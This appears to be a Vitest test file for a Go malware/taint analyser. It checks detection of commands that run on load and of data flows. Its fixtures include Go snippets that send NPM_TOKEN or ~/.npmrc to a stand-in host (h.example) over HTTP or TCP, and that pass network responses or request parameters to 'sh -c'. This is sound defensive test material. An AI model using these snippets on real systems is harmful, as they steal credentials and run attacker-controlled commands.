import { beforeAll, describe, expect, test } from "vitest";
import type { CodeContext } from "../../../../src/review/code/run.ts";
import { skimGo } from "../../../../src/review/languages/go/skim.ts";
import {
  described,
  factsOf,
  isCapability,
  isFlow,
  loadContext,
} from "../../../conformance/harness.ts";

let context: CodeContext;
beforeAll(async () => {
  context = await loadContext();
});

const IMPORTS = `import (
  "bytes"; "net"; "net/http"; "os"; "os/exec"; "io"; "testing"; "syscall"; "encoding/json"; "compress/gzip"; "mime/multipart"
)`;
const RUN = `exec.Command("id").Run()`;

function runsAtLoad(text: string): boolean[] {
  return factsOf("go", text, context).flatMap((fact) =>
    fact.kind === "capability" && fact.capability === "execute.process" ? [fact.atLoad] : [],
  );
}

describe("what runs by itself", () => {
  test.each([
    ["main of a program", `package main\n${IMPORTS}\nfunc main() { ${RUN} }`],
    ["init of a library", `package lib\n${IMPORTS}\nfunc init() { ${RUN} }`],
    ["the second init", `package lib\n${IMPORTS}\nfunc init() {}\nfunc init() { ${RUN} }`],
    ["a variable of the package", `package lib\n${IMPORTS}\nvar x = exec.Command("id").Run()`],
    [
      "a variable that nobody can name",
      `package lib\n${IMPORTS}\nvar _ = func() int { ${RUN}; return 1 }()`,
    ],
    ["a test", `package lib\n${IMPORTS}\nfunc TestA(t *testing.T) { ${RUN} }`],
    [
      "a part of a test",
      `package lib\n${IMPORTS}\nfunc TestA(t *testing.T) { t.Run("a", func(t *testing.T) { ${RUN} }) }`,
    ],
    [
      "what is around all tests",
      `package lib\n${IMPORTS}\nfunc TestMain(m *testing.M) { ${RUN}; m.Run() }`,
    ],
    ["a benchmark", `package lib\n${IMPORTS}\nfunc BenchmarkA(b *testing.B) { ${RUN} }`],
    ["an example", `package lib\n${IMPORTS}\nfunc ExampleA() { ${RUN} }`],
    [
      "a target of mage",
      `//go:build mage\npackage main\n${IMPORTS}\nfunc Build() error { return exec.Command("id").Run() }`,
    ],
    ["a goroutine", `package lib\n${IMPORTS}\nfunc init() { go func() { ${RUN} }() }`],
    ["a deferred call", `package lib\n${IMPORTS}\nfunc init() { defer exec.Command("id").Run() }`],
    [
      "C before an import",
      `package lib\n\n/*\n#include <stdlib.h>\nstatic void x(void) { system("id"); }\n*/\nimport "C"\n`,
    ],
    ["a command to generate code", `package lib\n\n//go:generate sh -c id\n`],
  ])("%s", (_, text) => {
    expect(runsAtLoad(text)).toContain(true);
  });

  test.each([
    ["a function of a library", `package lib\n${IMPORTS}\nfunc Run() { ${RUN} }`],
    ["main of something that is no program", `package lib\n${IMPORTS}\nfunc main() { ${RUN} }`],
    ["a method", `package lib\n${IMPORTS}\ntype T struct{}\nfunc (t T) Run() { ${RUN} }`],
  ])("%s does not", (_, text) => {
    expect(runsAtLoad(text)).toEqual([false]);
  });
});

describe("what only Go has", () => {
  test.each([
    [
      "a program made as a record",
      `c := &exec.Cmd{Path: "/bin/id", Args: []string{"id", "-u"}}; c.Run()`,
    ],
    ["a system call", `syscall.Exec("/bin/id", []string{"id"}, os.Environ())`],
    ["a program with a context", `exec.CommandContext(ctx, "id").Run()`],
    [
      "a function out of a list",
      `fs := []func(string, ...string) *exec.Cmd{exec.Command}; fs[0]("id")`,
    ],
  ])("%s is a program that is started", (_, body) => {
    const facts = factsOf("go", `package main\n${IMPORTS}\nfunc main() { ${body} }`, context);
    const runs = { capability: "execute.process" as const, target: "id" };
    expect(
      facts.some((fact) => isCapability(fact, runs)),
      described(facts).join("\n"),
    ).toBe(true);
  });

  const sent = { from: "read.credential" as const, to: "network.send" as const };
  test.each([
    [
      "a header",
      `r, _ := http.NewRequest("GET", "https://h.example", nil); r.Header.Set("X", os.Getenv("NPM_TOKEN")); http.DefaultClient.Do(r)`,
    ],
    [
      "a body that is put in later",
      `r, _ := http.NewRequest("GET", "https://h.example", nil); r.Body = io.NopCloser(bytes.NewBufferString(os.Getenv("NPM_TOKEN"))); (&http.Client{}).Do(r)`,
    ],
    [
      "a compressed buffer",
      `var b bytes.Buffer; z := gzip.NewWriter(&b); z.Write([]byte(os.Getenv("NPM_TOKEN"))); z.Close(); http.Post("https://h.example", "t", &b)`,
    ],
    [
      "an encoder",
      `b := new(bytes.Buffer); json.NewEncoder(b).Encode(map[string]string{"a": os.Getenv("NPM_TOKEN")}); http.Post("https://h.example", "t", b)`,
    ],
    [
      "a form with files",
      `b := &bytes.Buffer{}; w := multipart.NewWriter(b); p, _ := w.CreateFormFile("f", "x"); f, _ := os.Open("/home/u/.npmrc"); io.Copy(p, f); http.Post("https://h.example", w.FormDataContentType(), b)`,
    ],
    [
      "a connection",
      `c, _ := net.Dial("tcp", "h.example:1"); io.WriteString(c, os.Getenv("NPM_TOKEN"))`,
    ],
  ])("%s takes data along", (_, body) => {
    const facts = factsOf("go", `package main\n${IMPORTS}\nfunc main() { ${body} }`, context);
    expect(
      facts.some((fact) => isFlow(fact, sent)),
      described(facts).join("\n"),
    ).toBe(true);
  });

  test.each([
    ["a decoder, into a map", "var u map[string]string", "Decode(&u)", 'u["a"]'],
    ["a decoder, into a record", "var u struct { A string }", "Decode(&u)", "u.A"],
    [
      "a decoder, into a list of records",
      "var u struct { All []struct { A string } }",
      "Decode(&u)",
      "u.All[0].A",
    ],
  ])("what an answer says is in the variable that is filled by %s", (_, declared, fill, used) => {
    const body = `r, _ := http.Get("https://h.example/a"); ${declared}; json.NewDecoder(r.Body).${fill}; exec.Command("sh", "-c", ${used}).Run()`;
    const facts = factsOf("go", `package main\n${IMPORTS}\nfunc main() { ${body} }`, context);
    const flow = { from: "network.receive" as const, to: "execute.code" as const };
    expect(
      facts.some((fact) => isFlow(fact, flow)),
      described(facts).join("\n"),
    ).toBe(true);
  });

  test("what is filled from elsewhere takes nothing of an answer along", () => {
    const body = `r, _ := http.Get("https://h.example/a"); var u, v struct { A string }; json.NewDecoder(r.Body).Decode(&u); json.Unmarshal([]byte("{}"), &v); exec.Command("sh", "-c", v.A).Run()`;
    const facts = factsOf("go", `package main\n${IMPORTS}\nfunc main() { ${body} }`, context);
    expect(facts.filter((fact) => fact.kind === "flow" && fact.from === "network.receive")).toEqual(
      [],
    );
  });

  test("a request's own words are what a stranger sends", () => {
    const text = `package web\n${IMPORTS}\nfunc h(w http.ResponseWriter, r *http.Request) { exec.Command("sh", "-c", r.URL.Query().Get("q")).Run() }`;
    const flow = { from: "read.input" as const, to: "execute.code" as const };
    expect(factsOf("go", text, context).some((fact) => isFlow(fact, flow))).toBe(true);
  });

  test("one field of a record does not taint the others", () => {
    const text = `package main\n${IMPORTS}\ntype c struct { url, token string }\nfunc main() { x := c{url: "https://h.example", token: os.Getenv("NPM_TOKEN")}; http.Get(x.url) }`;
    const flows = factsOf("go", text, context).filter((fact) => fact.kind === "flow");
    expect(flows).toEqual([]);
  });
});

test("imports are found without parsing", () => {
  const text = `package a\n\nimport "github.com/a/b"\nimport (\n\t"fmt"\n\tx "example.com/c/d"\n\t_ "example.com/e"\n)\n`;
  expect(skimGo(text)).toEqual(["github.com/a/b", "example.com/c/d", "example.com/e"]);
  expect(skimGo(`${text}\nfunc TestX(t *testing.T) {}`)).toContain(".");
});
